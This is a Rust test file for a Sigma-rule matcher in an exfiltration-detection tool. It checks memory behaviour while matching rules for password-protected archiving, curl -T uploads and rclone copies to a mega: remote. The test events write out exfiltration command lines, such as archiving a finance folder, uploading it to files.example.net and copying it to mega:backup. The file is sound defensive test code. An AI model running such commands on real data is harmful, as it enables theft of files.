//! The matcher under exfilguard's allocator: its compiled rules, prefilters
//! and per-thread tables are long-lived memory (on huge pages), and matching
//! an event of a route already seen allocates nothing.

use allocator::{Allocator, in_long_lived_region, long_lived_allocations};
use model::{Event, LogSource, Timestamp, Value};
use sigma::{RuleSetBuilder, SigmaOptions};

#[global_allocator]
static GLOBAL: Allocator = Allocator;

const RULES: &str = r#"
title: Archiver with a password, then upload
id: 22222222-0000-0000-0000-000000000001
status: test
logsource: {product: windows, category: process_creation}
detection:
  archiver:
    Image|endswith: ['\7z.exe', '\rar.exe', '\winrar.exe']
    CommandLine|contains|windash: ['-p', ' a ']
  upload:
    CommandLine|re: '(?i)curl(\.exe)? .*-T '
  condition: archiver or upload
---
title: Rclone to a cloud remote
id: 22222222-0000-0000-0000-000000000002
status: test
logsource: {product: windows, category: process_creation}
detection:
  selection:
    CommandLine|contains|all: [' copy ', 'mega:']
  condition: selection
---
title: Any mention of a staging folder
id: 22222222-0000-0000-0000-000000000003
status: test
logsource: {product: windows}
detection:
  keywords: ['\staging\out']
  condition: keywords
"#;

fn process(image: &str, command_line: &str) -> Event {
    let mut event = Event {
        timestamp: Timestamp::from_secs(1_700_000_000),
        code: Some(1),
        logsource: LogSource::new(Some("windows"), Some("process_creation"), Some("sysmon")),
        ..Default::default()
    };
    event.native.push("EventID", Value::Int(1));
    event.native.push("Image", Value::from(image));
    event.native.push("CommandLine", Value::from(command_line));
    event
}

#[test]
fn the_matchers_tables_are_long_lived_and_warm_matching_allocates_nothing() {
    let before = long_lived_allocations();
    let mut builder = RuleSetBuilder::new(SigmaOptions::default()).unwrap();
    let rows = builder.add_yaml(RULES, "inline.yml");
    assert!(rows.iter().all(|r| r.is_ok()), "{rows:?}");
    let set = builder.build();
    let compiled = long_lived_allocations();
    assert!(
        compiled > before,
        "the rules were not compiled as long-lived memory"
    );
    let matcher = set.matcher();
    let mut scratch = matcher.scratch();
    assert!(
        long_lived_allocations() > compiled,
        "the scratch is not long-lived"
    );
    let events = [
        process(
            r"C:\Tools\7z.exe",
            r"7z.exe a -pS3cret C:\staging\out\q3.7z C:\finance",
        ),
        process(
            r"C:\Windows\System32\curl.exe",
            r"curl.exe -T q3.7z https://files.example.net",
        ),
        process(
            r"C:\Tools\rclone.exe",
            r"rclone.exe copy C:\finance mega:backup",
        ),
        process(
            r"C:\Windows\System32\notepad.exe",
            r"notepad.exe C:\notes.txt",
        ),
    ];
    let mut hits = Vec::with_capacity(8);
    // The first event of the route builds its prefilter, long-lived.
    let cold = long_lived_allocations();
    matcher.match_event(&events[0], &mut scratch, &mut hits);
    assert!(
        long_lived_allocations() > cold,
        "the route was not built as long-lived"
    );
    // Warm: every buffer has grown to these events' needs.
    for event in &events {
        hits.clear();
        matcher.match_event(event, &mut scratch, &mut hits);
    }
    let warm = long_lived_allocations();
    let mut fired = Vec::new();
    for event in &events {
        hits.clear();
        matcher.match_event(event, &mut scratch, &mut hits);
        fired.push(hits.clone());
    }
    assert_eq!(long_lived_allocations(), warm, "warm matching allocated");
    // The rules still answer: the archiver (and its staging keyword), the
    // upload, the rclone copy, nothing for notepad.
    assert_eq!(fired, vec![vec![0, 2], vec![0], vec![1], vec![]]);
    // And the tables are in the huge-page region.
    let table: Vec<u8> = allocator::long_lived(|| vec![0; 64]);
    assert!(in_long_lived_region(table.as_ptr()));
}
